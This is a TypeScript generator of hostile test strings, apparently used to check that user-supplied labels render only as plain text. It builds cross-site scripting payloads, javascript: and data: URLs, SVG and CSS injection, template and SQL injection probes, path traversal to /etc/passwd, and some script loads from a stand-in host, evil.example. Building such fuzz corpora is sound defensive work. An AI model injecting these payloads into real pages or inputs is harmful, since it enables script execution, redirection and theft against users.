/**
 * Texts that a careless or hostile operator, vendor or stranger could enter where the contract has a label: all are valid
 * labels, and none may become more than text on a screen. Generated, so that the list is the same everywhere.
 */

/** The longest label. */
const LENGTH = 200;

const each = <First, Second>(
  firsts: readonly First[],
  seconds: readonly Second[],
  write: (first: First, second: Second) => string,
): string[] => firsts.flatMap((first) => seconds.map((second) => write(first, second)));
const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => from + index);
const signs = (...codes: number[]) => codes.map((code) => String.fromCodePoint(code));

/** Sequences that end the context into which a careless page would insert a text. */
const BREAKERS = ['', '">', "'>", '</title>', '</script>', '-->', ']]>', '</textarea>'];

const scripts = () =>
  each(
    BREAKERS,
    [
      '<script>alert(1)</script>',
      '<ScRiPt>alert(1)//',
      '<script src=//evil.example/x.js></script>',
      '<<script>alert(1)//<</script>',
      '<sc<script>ript>alert(1)</sc</script>ript>',
      '<script type=module>import("//evil.example/x.js")</script>',
    ],
    (breaker, script) => breaker + script,
  );

const handlers = () =>
  each(
    [
      'img src=x',
      'svg',
      'body',
      'details open',
      'input autofocus',
      'video><source',
      'iframe',
      'math',
      'marquee',
      'a href=# tabindex=0',
    ],
    [
      'onerror',
      'onload',
      'onfocus',
      'ontoggle',
      'onmouseover',
      'onanimationstart',
      'onpointerenter',
    ],
    (tag, handler) => `<${tag} ${handler}=alert(1)>`,
  );

const attributes = () =>
  each(
    ['"', "'", '`', ' '],
    [
      ' onmouseover=alert(1) x=',
      ' autofocus onfocus=alert(1) ',
      ' style=position:fixed;inset:0;z-index:9999 ',
      ' srcdoc=<script>alert(1)</script> ',
      ' href=javascript:alert(1) ',
      ' aria-hidden=true hidden id=root class=sr-only ',
    ],
    (quote, attribute) => quote + attribute + quote,
  );

const urls = () =>
  each(
    [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      '\u0001javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      '//evil.example',
      '/\\evil.example',
      'https:evil.example',
      'file:///etc/passwd',
      'blob:https://evil.example/1',
    ],
    [
      (url: string) => url,
      (url: string) => `<a href="${url}">win</a>`,
      (url: string) => `[win](${url})`,
      (url: string) => `<form action="${url}"><button>win</button></form>`,
    ],
    (url, wrap) => wrap(url),
  );

const foreign = () =>
  each(
    ['', '"/>', '</svg>', '</style>'],
    [
      '<svg><script>alert(1)</script></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
      '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
      '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
      '<svg><style>@import"//evil.example/x.css";</style></svg>',
    ],
    (breaker, element) => breaker + element,
  );

const styles = () =>
  each(
    ['', '">', '}', '</style>', '*/'],
    [
      '<style>*{display:none!important}</style>',
      '<link rel=stylesheet href=//evil.example/x.css>',
      ';}body{display:none}',
      'width:expression(alert(1))',
      'background:url(javascript:alert(1))',
      '<div style="position:fixed;inset:0;z-index:9999;background:red">',
      '@import "//evil.example/x.css";',
      '<style>@import url(//evil.example/x.css);</style>',
    ],
    (breaker, style) => breaker + style,
  );

const elements = () =>
  each(
    ['', '">', '</noscript>'],
    [
      '<meta http-equiv=refresh content="0;url=//evil.example">',
      '<base href=//evil.example/>',
      '<object data=javascript:alert(1)></object>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<form id=location><input name=href></form>',
      '<img name=body id=__proto__>',
      '<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>',
      '<plaintext>',
      '<dialog open><form method=dialog><input type=password></form></dialog>',
      '<h1>You have won</h1><br><hr>',
    ],
    (breaker, element) => breaker + element,
  );

const entities = () =>
  each(
    [
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&#60;img src=x onerror=alert(1)&#62;',
      '&#x3C;b&#x3E;bold&#x3C;/b&#x3E;',
      '&amp;lt;b&amp;gt;',
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '&Tab;javascript&colon;alert(1)',
      '\\x3cscript\\x3e',
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      '&nbsp;&shy;&zwnj;&rlm;',
    ],
    ['', ' &quot;', ' &#0;&#xD800;'],
    (text, end) => text + end,
  );

const templates = () =>
  each(
    [
      '{{constructor.constructor("alert(1)")()}}',
      '${alert(1)}',
      '<%= 7*7 %>',
      '#{7*7}',
      '{% raw %}',
      '[[${7*7}]]',
      '`${alert`1`}`',
      '__proto__',
      'constructor',
      'toString',
      '%s%s%s%n',
      '../../../etc/passwd',
      "'; DROP TABLE game;--",
      '$&$1$`',
    ],
    ['', ' – "\'\\'],
    (text, end) => text + end,
  );

const messages = () =>
  each(
    [
      '{',
      '}',
      '{name}',
      '{0}',
      '{title}',
      '{count, plural, one {# game} other {# games}}',
      '{count, plural, other {#',
      "'{'",
      '{date, date, short}',
      '<0>x</0>',
      '</0><1/>',
      '{constructor}',
      '{gender, select, other{}}',
      "it''s {n}",
    ],
    ['', ' #'],
    (text, end) => text + end,
  );

/** Direction controls: overrides, embeddings, isolates, marks; never closed. */
const directions = () =>
  each(
    signs(...range(0x202a, 0x202e), ...range(0x2066, 0x2069), 0x200e, 0x200f, 0x061c),
    ['evil{}gnp.exe', '{}{}{}{}{}{}{}{} abc', 'العربية {} עברית 123'],
    (sign, text) => text.replaceAll('{}', sign),
  );

const invisible = () =>
  each(
    signs(
      0x200b,
      0x200c,
      0x200d,
      0x2060,
      0xfeff,
      0x00ad,
      0x180e,
      0x034f,
      0x115f,
      0x3164,
      0x2028,
      0x2029,
      0x0085,
      0xfffc,
      0xfffd,
      0xe0041,
      0x07,
      0x1b,
    ),
    ['{}', 'p{}a{}y{}p{}a{}l'],
    (sign, text) => text.replaceAll('{}', sign),
  );

/** Words that fit on no line and have no place to break. */
const long = () =>
  ['W', 'm', '1', '_', '漢', 'ﷺ', '𒐫', '·', '\u00a0x', 'ก', 'ệ', '—', '🇧🇷', '؁', 'ꧥ', '\u2007'].map(
    (sign) => sign.repeat(Math.floor(LENGTH / sign.length)),
  );

const emoji = () =>
  each(['👨‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '👍🏿', '1️⃣', '❤️‍🔥', '🧑🏽‍🤝‍🧑🏿', '☠︎', '🇻🇳'], [1, 12], (sign, times) =>
    sign.repeat(times),
  );

/** Marks stacked above and below one letter. */
const floods = () =>
  each(
    ['a', 'ก', 'e', '漢'],
    [
      [range(0x300, 0x30f), 1],
      [range(0x300, 0x36f), 1],
      [range(0x316, 0x333), 6],
      [[0xe34, 0xe48, 0xe38], 60],
      [[0x20dd, 0x20e3, 0x489], 60],
    ] as const,
    (letter, [marks, times]) => letter + String.fromCodePoint(...marks).repeat(times),
  );

const blank = () => [
  ' ',
  ' '.repeat(LENGTH),
  '\n\n\n',
  '\t',
  '\u3000',
  '.',
  'null',
  'undefined',
  'NaN',
  // Half a surrogate pair: JSON may carry it.
  'a\ud800b',
  '\udfff',
];

/** Cut to a label's length, at whole characters. */
function fitted(text: string): string {
  let kept = '';
  for (const sign of text) {
    if (kept.length + sign.length > LENGTH) break;
    kept += sign;
  }
  return kept;
}

const FAMILIES = {
  scripts,
  handlers,
  attributes,
  urls,
  foreign,
  styles,
  elements,
  entities,
  templates,
  messages,
  directions,
  invisible,
  long,
  emoji,
  floods,
  blank,
};

/** More than five hundred texts, each once, by family. */
export function hostileTexts(): readonly string[] {
  const made = Object.values(FAMILIES).flatMap((family) => family().map(fitted));
  return [...new Set(made)];
}

/** A sample of every family. */
export function hostileSample(perFamily: number): readonly string[] {
  const some = Object.values(FAMILIES).flatMap((family) => {
    const all = family().map(fitted);
    const step = Math.max(1, Math.floor(all.length / perFamily));
    return all.filter((_, index) => index % step === 0).slice(0, perFamily);
  });
  return [...new Set(some)];
}
